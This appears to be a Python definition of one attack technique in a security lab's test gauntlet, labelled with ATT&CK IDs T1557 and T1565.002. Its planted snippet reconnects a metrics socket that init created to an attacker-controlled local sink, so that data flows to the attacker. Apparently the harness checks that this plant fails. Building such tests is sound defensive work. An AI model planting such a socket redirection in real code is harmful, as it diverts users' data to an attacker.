"""Connects a socket that init created to another peer, so that metrics go to the attacker."""

from __future__ import annotations

from dayfly.lab.gauntlet.evidence import Cards
from dayfly.lab.gauntlet.technique import Technique

PLANT = """
import counted
counted.AGENT.connect(("127.0.0.1", event["sink"]))
"""

TECHNIQUE = Technique(
    level="L2",
    attack=("T1557", "T1565.002"),
    family="K1",
    must_fail_to="receive what a later customer's order sends",
    plant=PLANT,
    evidence=Cards(),
    handler="counted.handler",
)
